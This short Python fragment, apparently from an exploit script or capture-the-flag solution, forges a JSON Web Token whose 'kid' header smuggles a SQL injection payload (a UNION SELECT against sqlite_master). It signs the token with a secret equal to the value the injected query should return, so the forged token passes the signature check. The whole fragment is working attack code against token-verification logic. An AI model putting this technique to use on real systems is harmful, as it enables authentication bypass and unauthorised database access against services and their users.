# the name of a column of the schema, which is known
queried = forge(
    {"alg": "HS256", "kid": "' UNION SELECT type FROM sqlite_master --"}, wanted, secret=b"table"
)
